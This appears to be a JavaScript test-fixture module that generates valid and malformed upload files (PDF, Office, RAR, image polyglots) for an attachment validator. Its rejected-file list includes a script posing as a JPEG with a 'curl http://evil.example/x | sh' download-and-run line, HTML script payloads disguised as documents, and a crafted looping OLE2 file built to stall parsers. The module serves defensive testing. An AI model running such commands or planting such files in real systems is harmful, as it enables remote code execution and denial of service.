// files.mjs - the attachment corpus, built byte by byte so the suite needs
// no office suite or archiver: JPEG, PNG, PDF, Word 97 (.doc) and Excel 97
// (.xls) compound files, Word and Excel OOXML packages (.docx, .xlsx), RAR 4
// and RAR 5 archives; and each way a file can be wrong (renamed, truncated,
// corrupt, a script or a page in disguise, a polyglot).
import zlib from 'node:zlib';
import { jpegBytes, pngImage } from './register.mjs';

export { pngImage };

const u16 = (v) => { const b = Buffer.alloc(2); b.writeUInt16LE(v); return b; };
const u32 = (v) => { const b = Buffer.alloc(4); b.writeUInt32LE(v >>> 0); return b; };
const crc32 = (buf) => zlib.crc32(buf);

/** An 8x8 grey baseline JPEG (register.mjs builds it for licences too). */
export const jpeg = jpegBytes;

/** A one-page PDF with a correct xref table; pad adds a comment of that many bytes. */
export function pdf(pad = 0) {
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ];
  const parts = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  if (pad > 0) {
    if (pad < 2) throw new Error('pad must be 0 or at least 2');
    parts.push(Buffer.concat([Buffer.from('%'), Buffer.alloc(pad - 2, 0x61), Buffer.from('\n')]));
  }
  let len = parts.reduce((n, b) => n + b.length, 0);
  const offs = [];
  objs.forEach((o, i) => {
    offs.push(len);
    const b = Buffer.from(`${i + 1} 0 obj\n${o}\nendobj\n`);
    parts.push(b);
    len += b.length;
  });
  const xref = len;
  let t = `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const o of offs) t += `${String(o).padStart(10, '0')} 00000 n \n`;
  t += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  parts.push(Buffer.from(t));
  return Buffer.concat(parts);
}

/** A PDF of exactly n bytes. */
export function pdfOfSize(n) {
  // The startxref offset grows a digit or two with the padding: converge.
  let pad = n - pdf(0).length;
  for (let i = 0; i < 4; i++) {
    const b = pdf(pad);
    if (b.length === n) return b;
    pad -= b.length - n;
  }
  throw new Error(`pdfOfSize: cannot make ${n} bytes`);
}

/**
 * An OLE2 compound file ([MS-CFB], version 3, 512-byte sectors) with one
 * 4096-byte stream: WordDocument starting with the FIB's 0xA5EC (doc), or
 * Workbook starting with a BIFF8 BOF record (xls).
 */
function cfb(streamName, head) {
  const SS = 512, FREE = 0xffffffff, END = 0xfffffffe, FATSECT = 0xfffffffd, NOSTREAM = 0xffffffff;
  const hdr = Buffer.alloc(SS, 0);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(hdr, 0);
  hdr.writeUInt16LE(0x3e, 0x18); hdr.writeUInt16LE(3, 0x1a); hdr.writeUInt16LE(0xfffe, 0x1c);
  hdr.writeUInt16LE(9, 0x1e); hdr.writeUInt16LE(6, 0x20);
  hdr.writeUInt32LE(1, 0x2c); hdr.writeUInt32LE(1, 0x30); hdr.writeUInt32LE(4096, 0x38);
  hdr.writeUInt32LE(END, 0x3c); hdr.writeUInt32LE(0, 0x40); hdr.writeUInt32LE(END, 0x44); hdr.writeUInt32LE(0, 0x48);
  for (let i = 0; i < 109; i++) hdr.writeUInt32LE(i === 0 ? 0 : FREE, 0x4c + 4 * i);
  const fat = Buffer.alloc(SS, 0xff);
  fat.writeUInt32LE(FATSECT, 0); fat.writeUInt32LE(END, 4);
  for (let s = 2; s < 9; s++) fat.writeUInt32LE(s + 1, 4 * s);
  fat.writeUInt32LE(END, 4 * 9);
  const entry = (name, type, child, start, size) => {
    const e = Buffer.alloc(128, 0);
    if (name) { Buffer.from(name, 'utf16le').copy(e, 0); e.writeUInt16LE((name.length + 1) * 2, 0x40); }
    e[0x42] = type; e[0x43] = 1;
    e.writeUInt32LE(NOSTREAM, 0x44); e.writeUInt32LE(NOSTREAM, 0x48); e.writeUInt32LE(child, 0x4c);
    e.writeUInt32LE(start, 0x74); e.writeUInt32LE(size, 0x78);
    return e;
  };
  const dir = Buffer.concat([entry('Root Entry', 5, 1, END, 0), entry(streamName, 2, NOSTREAM, 2, 4096),
    entry('', 0, NOSTREAM, 0, 0), entry('', 0, NOSTREAM, 0, 0)]);
  const stream = Buffer.alloc(4096, 0);
  head.copy(stream, 0);
  return Buffer.concat([hdr, fat, dir, stream]);
}
export const doc = () => cfb('WordDocument', Buffer.from([0xec, 0xa5, 0xc1, 0x00]));
export const xls = () => cfb('Workbook', Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]));

/** A zip (APPNOTE 4.3) of [name, content] pairs, deflated. */
export function zip(entries) {
  const locals = [], centrals = [];
  let off = 0;
  for (const [name, content] of entries) {
    const data = Buffer.from(content);
    const comp = zlib.deflateRawSync(data);
    const n = Buffer.from(name);
    const common = Buffer.concat([u16(20), u16(0), u16(8), u16(0), u16(0x21), u32(crc32(data)), u32(comp.length), u32(data.length), u16(n.length), u16(0)]);
    const local = Buffer.concat([u32(0x04034b50), common, n, comp]);
    centrals.push(Buffer.concat([u32(0x02014b50), u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(off), n]));
    locals.push(local);
    off += local.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.concat([u32(0x06054b50), u16(0), u16(0), u16(entries.length), u16(entries.length), u32(cd.length), u32(off), u16(0)]);
  return Buffer.concat([...locals, cd, eocd]);
}

const CT = (main, part) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${main}"/></Types>`;
const RELS = (part) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${part}"/></Relationships>`;

export const docx = () => zip([
  ['[Content_Types].xml', CT('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', 'word/document.xml')],
  ['_rels/.rels', RELS('word/document.xml')],
  ['word/document.xml', '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>企业简介</w:t></w:r></w:p></w:body></w:document>'],
]);
export const xlsx = () => zip([
  ['[Content_Types].xml', CT('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', 'xl/workbook.xml')],
  ['_rels/.rels', RELS('xl/workbook.xml')],
  ['xl/workbook.xml', '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'],
]);

/** A RAR 4 archive storing one file (technote.txt: MAIN_HEAD, FILE_HEAD, ENDARC_HEAD). */
export function rar4(name = 'a.txt', data = Buffer.from('财务数据\n')) {
  const block = (type, flags, body) => {
    const h = Buffer.concat([Buffer.from([type]), u16(flags), u16(7 + body.length), body]);
    return Buffer.concat([u16(crc32(h) & 0xffff), h]);
  };
  const n = Buffer.from(name);
  const file = Buffer.concat([u32(data.length), u32(data.length), Buffer.from([2]), u32(crc32(data)), u32(0x5a8e0000), Buffer.from([29, 0x30]), u16(n.length), u32(0x20), n]);
  return Buffer.concat([Buffer.from('526172211a0700', 'hex'), block(0x73, 0, Buffer.alloc(6)),
    block(0x74, 0x8000, file), data, block(0x7b, 0x4000, Buffer.alloc(0))]);
}

/** A RAR 5 archive storing one file (rarlab technote: main, file, end headers). */
export function rar5(name = 'a.txt', data = Buffer.from('财务数据\n')) {
  const vint = (v) => { const o = []; do { let b = v & 0x7f; v = Math.floor(v / 128); if (v) b |= 0x80; o.push(b); } while (v); return Buffer.from(o); };
  const header = (body) => {
    const sz = vint(body.length);
    return Buffer.concat([u32(crc32(Buffer.concat([sz, body]))), sz, body]);
  };
  const n = Buffer.from(name);
  const file = Buffer.concat([vint(2), vint(0x02), vint(data.length), vint(0x04), vint(data.length), vint(0x20), u32(crc32(data)), vint(0), vint(0), vint(n.length), n]);
  return Buffer.concat([Buffer.from('526172211a070100', 'hex'), header(Buffer.concat([vint(1), vint(0), vint(0)])),
    header(file), data, header(Buffer.concat([vint(5), vint(0), vint(0)]))]);
}

/** Every accepted type: [label, file name, bytes, stored type]. */
export function goodFiles() {
  return [
    ['jpg', '营业执照.jpg', jpeg(), 'jpg'],
    ['jpeg', 'licence.JPEG', jpeg(), 'jpg'],
    ['png', 'scan.png', pngImage(16, 16), 'png'],
    ['pdf', '审计报告.pdf', pdf(), 'pdf'],
    ['doc', '企业简介.doc', doc(), 'doc'],
    ['xls', '财务报表.xls', xls(), 'xls'],
    ['docx', '企业简介.docx', docx(), 'docx'],
    ['xlsx', '财务报表.xlsx', xlsx(), 'xlsx'],
    ['rar4', '证明材料.rar', rar4(), 'rar'],
    ['rar5', 'proofs.rar', rar5(), 'rar'],
  ];
}

/** Each way a file is refused with 415: [label, file name, bytes, words the message must hold]. */
export function badFiles() {
  const png = pngImage(16, 16);
  const corruptPng = Buffer.from(png);
  corruptPng[40] ^= 0xff;
  const p = pdf();
  return [
    ['png renamed .pdf', 'scan.pdf', png, ['PNG图片', '.pdf']],
    ['docx renamed .xlsx', 'book.xlsx', docx(), ['Word文档（docx）', '.xlsx']],
    ['script named .jpg', 'photo.jpg', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'), ['不是JPEG图片']],
    ['HTML page named .doc', 'intro.doc', Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), ['不是Word文档（doc）']],
    ['truncated pdf', 'report.pdf', p.subarray(0, Math.floor(p.length / 2)), ['损坏或不完整']],
    ['truncated docx', 'intro.docx', docx().subarray(0, 200), ['损坏或不完整']],
    ['truncated rar', 'a.rar', rar5().subarray(0, 30), ['损坏或不完整']],
    ['corrupt png (CRC)', 'scan.png', corruptPng, ['损坏或不完整']],
    ['truncated doc', 'intro.doc', doc().subarray(0, 3000), ['损坏或不完整']],
    ['polyglot jpg + zip', 'photo.jpg', Buffer.concat([jpeg(), docx()]), ['夹带']],
    ['polyglot pdf + html', 'report.pdf', Buffer.concat([p, Buffer.from('<html><script>alert(1)</script></html>')]), ['夹带']],
    ['not on the list (.exe)', 'setup.exe', Buffer.from('MZ\x90\x00'), ['不支持', '.exe']],
    ['no extension', 'README', pdf(), ['没有扩展名']],
    ['empty', 'empty.pdf', Buffer.alloc(0), ['空的']],
  ];
}

/**
 * The OLE2 file of issue 12, size bytes (4096-byte sectors): as many FAT
 * sectors as fit (109 at most), their entries free past the file so the
 * FAT looks sane; a directory sector whose chain loops on itself, its 31
 * streams all "WordDocument" of 100 bytes starting at a mini sector that
 * lies nfat sectors down the mini stream's chain, which loops too. A walk
 * bounded only by the FAT's size repeats the directory nfat times and walks
 * nfat sectors per entry: 32 * nfat^2 steps, 14 s at 64 KiB, days at 8 MiB.
 */
export function looping(size) {
  const SS = 4096, PER = SS / 4, FATSECT = 0xfffffffd, END = 0xfffffffe, FREE = 0xffffffff, NOS = 0xffffffff;
  const nsect = Math.floor(size / SS) - 1;
  const F = Math.max(1, Math.min(109, nsect - 2));
  const nfat = F * PER, dir = F, mini = F + 1;
  const b = Buffer.alloc((nsect + 1) * SS, 0);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(b, 0);
  b.writeUInt16LE(0x3e, 0x18); b.writeUInt16LE(4, 0x1a); b.writeUInt16LE(0xfffe, 0x1c);
  b.writeUInt16LE(12, 0x1e); b.writeUInt16LE(6, 0x20);
  b.writeUInt32LE(F, 0x2c); b.writeUInt32LE(dir, 0x30); b.writeUInt32LE(4096, 0x38);
  b.writeUInt32LE(END, 0x3c); b.writeUInt32LE(0, 0x40); b.writeUInt32LE(END, 0x44);
  for (let i = 0; i < 109; i++) b.writeUInt32LE(i < F ? i : FREE, 0x4c + 4 * i);
  const fat = (i, v) => b.writeUInt32LE(v, SS + 4 * i);
  for (let i = 0; i < nfat; i++) fat(i, FREE);
  for (let i = 0; i < F; i++) fat(i, FATSECT);
  fat(dir, dir);
  fat(mini, mini);
  const entry = (i, type, start, sz, right) => {
    const e = (dir + 1) * SS + 128 * i;
    Buffer.from(type === 5 ? 'Root Entry' : 'WordDocument', 'utf16le').copy(b, e);
    b.writeUInt16LE(type === 5 ? 22 : 26, e + 0x40); b[e + 0x42] = type;
    b.writeUInt32LE(NOS, e + 0x44); b.writeUInt32LE(right, e + 0x48);
    b.writeUInt32LE(type === 5 ? 1 : NOS, e + 0x4c);
    b.writeUInt32LE(start, e + 0x74); b.writeUInt32LE(sz, e + 0x78);
  };
  entry(0, 5, mini, 64 * 64, NOS);
  for (let i = 1; i < SS / 128; i++) entry(i, 2, (nfat - 1) * (SS / 64), 100, i + 1 < SS / 128 ? i + 1 : NOS);
  b.writeUInt16LE(0xa5ec, (mini + 1) * SS);
  return b;
}
